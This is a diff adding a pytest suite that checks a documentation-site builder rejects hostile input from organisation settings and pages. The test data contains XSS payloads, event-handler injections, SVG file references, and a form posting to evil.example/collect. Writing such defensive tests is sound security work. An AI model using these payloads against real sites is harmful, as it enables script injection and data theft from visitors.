@@ -1,0 +1,328 @@
+"""Hostile and careless input: nothing from settings or pages runs or fetches, no file of the build machine is
+published, publishing never deletes what it did not publish, and no translation makes an anonymous sheet name its
+reader. Each payload is one a red-team pass found getting through; each ends in a located message or harmless output.
+"""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from pypdf import PdfReader
+
+from conftest import copy_project, tree_digest, trustguide
+
+INJECTED_NAME = 'Acme" onfocus="alert(42)" autofocus="'
+SCRIPT_URL = 'https://x.example/"><script>alert(1)</script>'
+
+
+class _Elements(HTMLParser):
+    """Every element of a page with its attributes, as a browser would parse them."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, dict(attrs)))
+
+
+def elements(path: Path) -> list[tuple[str, dict[str, str | None]]]:
+    parser = _Elements()
+    parser.feed(path.read_text(encoding="utf-8"))
+    return parser.elements
+
+
+def organisation(folder: Path, settings: str, pages: dict[str, str] | None = None) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "organisation.yml").write_text(settings, encoding="utf-8")
+    for name, text in (pages or {}).items():
+        (folder / "docs" / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / "docs" / name).write_text(text, encoding="utf-8")
+    return folder
+
+
+def page(title: str, body: str, description: str = "A page of the organisation.") -> str:
+    return f"---\ntitle: {title}\ndescription: {description}\naudience: [coach]\ntags: [local]\n---\n\n{body}\n"
+
+
+def sources(folder: Path) -> dict[str, str]:
+    """Every file of a folder but the caches a command may fill: what a user would lose."""
+    return {path: digest for path, digest in tree_digest(folder).items() if ".cache/" not in path}
+
+
+def assert_refused(result, *messages: str) -> None:
+    output = result.stdout + result.stderr
+    assert result.returncode == 1, output
+    assert "Traceback" not in output, output
+    for message in messages:
+        assert message in output, output
+
+
+# -------------------------------------------------------------------------------------------------------------------
+# Settings printed into every page
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The guide built (English only) for an organisation whose settings and page titles carry quotes and markup."""
+    base = tmp_path_factory.mktemp("hostile")
+    project = copy_project(base / "guide")
+    org = organisation(base / "org", (
+        f"name: '{INJECTED_NAME.replace(chr(39), chr(39) * 2)}'\n"
+        "overlay_title: 'Ours\" onmouseover=\"alert(3)'\n"
+        "prefix: ours\nlanguages: [en]\n"
+    ), {"index.md": page("Zoë's \"own\" page & more", "Text.", 'Quotes " and <b>markup</b> stay text.')})
+    result = trustguide("build", "--org-dir", str(org), "-d", str(base / "site"), cwd=project)
+    assert result.returncode == 0, result.stderr
+    return base / "site"
+
+
+def test_settings_with_quotes_never_become_attributes(hostile_site: Path) -> None:
+    for path in (hostile_site / "index.html", hostile_site / "ours" / "index.html"):
+        found = elements(path)
+        handlers = [(tag, name) for tag, attrs in found for name in attrs if name.startswith("on") or name == "autofocus"]
+        assert handlers == [], handlers
+        labels = [attrs.get("aria-label") for tag, attrs in found if "md-logo" in (attrs.get("class") or "")]
+        assert labels and all(label == f"Trust Guide for {INJECTED_NAME}" for label in labels), labels
+
+
+def test_a_title_with_quotes_and_ampersands_is_shown_as_written(hostile_site: Path) -> None:
+    text = (hostile_site / "ours" / "index.html").read_text(encoding="utf-8")
+    parser = _Elements()
+    parser.feed(text)
+    description = [a.get("content") for tag, a in parser.elements if tag == "meta" and a.get("name") == "description"]
+    assert description == ['Quotes " and <b>markup</b> stay text.'], description
+    assert "<title>Zoë's \"own\" page & more - Trust Guide for Acme&#34;" in text
+
+
+@pytest.mark.parametrize("where", ["settings", "mkdocs.yml", "option"])
+def test_a_site_address_that_would_close_an_attribute_is_refused_at_its_line(tmp_path: Path, where: str) -> None:
+    project = copy_project(tmp_path / "guide")
+    before = sources(project)
+    if where == "settings":
+        org = organisation(tmp_path / "org", f"name: Acme\nsite_url: '{SCRIPT_URL}'\n")
+        result = trustguide("check", "--org-dir", str(org), cwd=project)
+        assert_refused(result, "organisation.yml:2: site_url 'https://x.example/\"><script>", "not allowed in an address")
+    elif where == "mkdocs.yml":
+        config = project / "mkdocs.yml"
+        config.write_text(config.read_text(encoding="utf-8").replace(
+            "site_url: https://trustguide.example.org/", f"site_url: '{SCRIPT_URL}'"), encoding="utf-8")
+        before = sources(project)
+        for command in ("check", "build"):
+            assert_refused(trustguide(command, cwd=project), "mkdocs.yml:3: site_url", "not allowed in an address")
+    else:
+        result = trustguide("build", "--site-url", SCRIPT_URL, cwd=project)
+        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
+        assert "not allowed in an address ('\"' '<' '>')" in result.stderr, result.stderr
+    assert sources(project) == before
+    assert not (project / "site").exists()
+
+
+# -------------------------------------------------------------------------------------------------------------------
+# Publishing never deletes what the guide did not publish
+
+
+@pytest.mark.parametrize("site_dir, message", [
+    ("docs", "--site-dir docs: is the guide's docs folder"),
+    (".", "--site-dir .: is the guide's checkout"),
+    ("..", "--site-dir ..: holds the guide's checkout"),
+    ("docs/site", "--site-dir docs/site: is inside the guide's docs folder"),
+    ("worksheets", "is a source folder of the guide (worksheets/)"),
+    ("elsewhere", "--site-dir elsewhere: is a folder the guide did not publish (it holds notes.txt)"),
+    ("org", "is the organisation's folder"),
+    ("org/docs", "is the organisation's docs folder"),
+])
+def test_publishing_never_replaces_the_sources_or_a_foreign_folder(tmp_path: Path, site_dir: str, message: str) -> None:
+    project = copy_project(tmp_path / "guide")
+    (project / "elsewhere").mkdir()
+    (project / "elsewhere" / "notes.txt").write_text("uncommitted work", encoding="utf-8")
+    org = organisation(project / "org", "name: Acme\n", {"index.md": page("Ours", "Text.")})
+    before = sources(tmp_path)
+    result = trustguide("build", "--org-dir", str(org), "-d", site_dir, cwd=project)
+    assert_refused(result, message, "the published site was left unchanged")
+    assert sources(tmp_path) == before
+
+
+def test_the_site_dir_of_mkdocs_yml_is_checked_too(tmp_path: Path) -> None:
+    project = copy_project(tmp_path / "guide")
+    config = project / "mkdocs.yml"
+    # MkDocs itself refuses a site_dir that holds docs_dir; the guide's other sources are the guide's to protect
+    config.write_text(config.read_text(encoding="utf-8").replace("site_dir: site", "site_dir: worksheets"),
+                      encoding="utf-8")
+    before = sources(project)
+    result = trustguide("build", cwd=project)
+    assert_refused(result, "mkdocs.yml:6: site_dir worksheets: is a source folder of the guide (worksheets/)")
+    assert sources(project) == before
+
+
+def test_a_site_the_guide_published_is_replaced(tmp_path: Path) -> None:
+    """The marker the guide leaves in every site it publishes: the next build may replace that folder, and only it."""
+    from trustguide.publish import MARKER, refuse_unsafe_site_dir
+
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "page.html").write_text("old", encoding="utf-8")
+    with pytest.raises(Exception, match="did not publish"):
+        refuse_unsafe_site_dir(site, "--site-dir site", {}, {})
+    (site / MARKER).write_text("", encoding="utf-8")
+    refuse_unsafe_site_dir(site, "--site-dir site", {}, {})  # no exception
+
+
+# -------------------------------------------------------------------------------------------------------------------
+# Files of the build machine
+
+
+def test_a_logo_outside_the_folder_is_refused_directly_or_through_a_link(tmp_path: Path) -> None:
+    secret = tmp_path / "secret.png"
+    secret.write_bytes(b"\x89PNG not the organisation's")
+    org = organisation(tmp_path / "org", "name: Acme\nlogo: ../secret.png\n")
+    assert_refused(trustguide("check", "--org-dir", str(org), cwd=copy_project(tmp_path / "guide")),
+                   "organisation.yml:2: logo '../secret.png' is outside the organisation's folder")
+    (org / "logo.png").symlink_to(secret)
+    (org / "organisation.yml").write_text("name: Acme\nlogo: logo.png\n", encoding="utf-8")
+    assert_refused(trustguide("check", "--org-dir", str(org), cwd=tmp_path / "guide"),
+                   "organisation.yml:2: logo 'logo.png' is outside the organisation's folder (it is a symbolic link")
+
+
+@pytest.mark.parametrize("svg, what", [
+    ('<svg xmlns="http://www.w3.org/2000/svg">\n<image href="file:///etc/hostname"/></svg>', "refers to another file"),
+    ('<svg xmlns="http://www.w3.org/2000/svg"\n xmlns:xlink="http://www.w3.org/1999/xlink">'
+     '<image xlink:href="https://evil.example/a.png"/></svg>', "refers to another file"),
+    ('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "holds a script"),
+    ('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>', "holds an event handler"),
+    ('<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://x/y.css";</style></svg>', "imports a style"),
+])
+def test_an_svg_logo_that_refers_to_anything_else_is_refused(tmp_path: Path, svg: str, what: str) -> None:
+    org = organisation(tmp_path / "org", "name: Acme\nlogo: logo.svg\n")
+    (org / "logo.svg").write_text(svg, encoding="utf-8")
+    assert_refused(trustguide("check", "--org-dir", str(org), cwd=copy_project(tmp_path / "guide")),
+                   f"organisation.yml:2: logo 'logo.svg' {what}")
+
+
+def test_the_pdf_renderer_reads_no_file_outside_the_templates(tmp_path: Path) -> None:
+    """Whatever reaches it, the renderer reads the guide's templates and data: addresses, no other file."""
+    from weasyprint.urls import FatalURLFetchingError
+
+    from trustguide.pdf.weasy import render_pdf
+
+    templates = tmp_path / "templates"
+    templates.mkdir()
+    (templates / "print.css").write_text("p { color: #123456 }", encoding="utf-8")
+    outside = tmp_path / "outside.css"
+    outside.write_text("p { color: red }", encoding="utf-8")
+    own = render_pdf('<link rel="stylesheet" href="print.css"><p>Hello</p>', templates)
+    assert own.pages == 1
+    with pytest.raises(FatalURLFetchingError):
+        render_pdf(f'<link rel="stylesheet" href="{outside.as_uri()}"><p>Hello</p>', templates)
+    with pytest.raises(FatalURLFetchingError):
+        render_pdf('<link rel="stylesheet" href="../outside.css"><p>Hello</p>', templates)
+
+
+def test_links_out_of_the_organisations_folder_are_refused_and_nothing_is_published(tmp_path: Path) -> None:
+    project = copy_project(tmp_path / "guide")
+    secret = tmp_path / "machine"
+    secret.mkdir()
+    (secret / "passwd.txt").write_text("root:x:0:0", encoding="utf-8")
+    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n", {"index.md": page("Ours", "Text.")})
+    (org / "docs" / "passwd.txt").symlink_to(secret / "passwd.txt")
+    (org / "docs" / "machine").symlink_to(secret)
+    (org / "docs" / "inside.md").symlink_to(org / "docs" / "index.md")  # a link inside the folder is fine
+    for command in ("check", "build"):
+        result = trustguide(command, "--org-dir", str(org), "-d", str(tmp_path / "site"), cwd=project) \
+            if command == "build" else trustguide(command, "--org-dir", str(org), cwd=project)
+        assert_refused(result, "docs/passwd.txt: is a symbolic link to", "docs/machine: is a symbolic link to")
+        assert "inside.md" not in result.stdout + result.stderr
+    assert not (tmp_path / "site").exists()
+
+
+# -------------------------------------------------------------------------------------------------------------------
+# Markup in pages that runs or fetches
+
+HOSTILE_BODY = """\
+# Ours
+
+Shown as code, which is fine: `<script>alert(0)</script>`
+
+```html
+<iframe src="https://evil.example/"></iframe>
+```
+
+<script>alert(1)</script>
+<img src="photo.png" onerror="alert(2)">
+![remote](https://evil.example/pixel.png)
+<iframe src="https://evil.example/frame"></iframe>
+<link rel="stylesheet" href="https://evil.example/x.css">
+<p style="background: url(https://evil.example/bg.png)">styled</p>
+[click](javascript:alert(3))
+[styled link](index.md){ onclick="alert(4)" }
+<form action="https://evil.example/collect"><input name="q"></form>
+<img src="https://evil.example/tracker.gif" alt="">
+[A link to another site is fine](https://www.example.org/)
+"""
+
+
+def test_script_frames_and_remote_resources_in_a_page_are_located_errors(tmp_path: Path) -> None:
+    project = copy_project(tmp_path / "guide")
+    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n", {"index.md": page("Ours", HOSTILE_BODY)})
+    result = trustguide("check", "--org-dir", str(org), cwd=project)
+    lines = {int(line.split(":")[1]) for line in result.stdout.splitlines() if "docs/index.md:" in line}
+    # the body starts on line 8: the script is line 16, and so on; code (lines 10-14) is not read as markup
+    assert lines == {16, 17, 18, 19, 20, 21, 22, 23, 24, 25}, result.stdout
+    assert_refused(result, "index.md:16: a script (<script>)", "index.md:17: an event handler (onerror=)",
+                   "index.md:18: an image from another site (https://evil.example/pixel.png)",
+                   "index.md:24: a form that sends to 'https://evil.example/collect'")
+    build = trustguide("build", "--org-dir", str(org), "-d", str(tmp_path / "site"), cwd=project)
+    assert_refused(build, "index.md:16: a script")
+    assert not (tmp_path / "site").exists()
+
+
+def test_markup_in_a_front_matter_title_is_refused(tmp_path: Path) -> None:
+    project = copy_project(tmp_path / "guide")
+    org = organisation(tmp_path / "org", "name: Acme\nprefix: ours\n",
+                       {"index.md": page("'<img src=x onerror=alert(1)>'", "Text.")})
+    assert_refused(trustguide("check", "--org-dir", str(org), cwd=project),
+                   "docs/index.md:2: front matter 'title' may not contain '<' or '>'")
+
+
+def test_an_invalid_settings_file_says_what_else_was_not_checked(tmp_path: Path) -> None:
+    project = copy_project(tmp_path / "guide")
+    org = organisation(tmp_path / "org", "name: Acme\nleave_out: [nothing]\n", {"index.md": page("Ours", "<script>x</script>")})
+    result = trustguide("check", "--org-dir", str(org), cwd=project)
+    assert_refused(result, "organisation.yml:2: leave_out: unknown part 'nothing'",
+                   "the organisation's pages, references, worksheets and plans were not checked")
+
+
+# -------------------------------------------------------------------------------------------------------------------
+# Anonymity belongs to the sheet
+
+
+def test_a_translation_cannot_make_an_anonymous_sheet_name_its_reader(tmp_path: Path) -> None:
+    project = copy_project(tmp_path / "guide")
+    translated = project / "translations" / "de" / "worksheets" / "team-trust-pulse.yml"
+    text = translated.read_text(encoding="utf-8")
+    translated.write_text("\n".join(line for line in text.splitlines() if not line.startswith("anonymous:")) + "\n",
+                          encoding="utf-8")
+    message = ("translations/de/worksheets/team-trust-pulse.yml:1: the English worksheet 'team-trust-pulse' is "
+               "anonymous")
+    assert_refused(trustguide("check", cwd=project), message)
+    names = tmp_path / "names.txt"
+    names.write_text("Anaïs\nBen\n", encoding="utf-8")
+    pack = trustguide("pack", "team-trust-workshop", "--language", "de", "--participants", str(names),
+                      "-o", str(tmp_path / "pack.pdf"), cwd=project)
+    assert_refused(pack, message)
+    assert not (tmp_path / "pack.pdf").exists()
+
+
+def test_anonymous_copies_carry_no_mark_of_whose_they_are(tmp_path: Path, repo_root: Path) -> None:
+    out = tmp_path / "pulse.pdf"
+    result = trustguide("worksheet", "team-trust-pulse", "--participant", "Anaïs", "--participant", "Ben",
+                        "--participant", "محمد", "-o", str(out), cwd=repo_root)
+    assert result.returncode == 0, result.stderr
+    fields = list(PdfReader(out).get_fields() or {})
+    prefixes = {name.split("-")[0] for name in fields}
+    assert len(prefixes) == 3, prefixes  # one set of fields per copy
+    assert not any(prefix in {"p1", "p2", "p3"} for prefix in prefixes), prefixes
+    text = "".join(page.extract_text() for page in PdfReader(out).pages)
+    assert "Anaïs" not in text and "Ben" not in text and "محمد" not in text
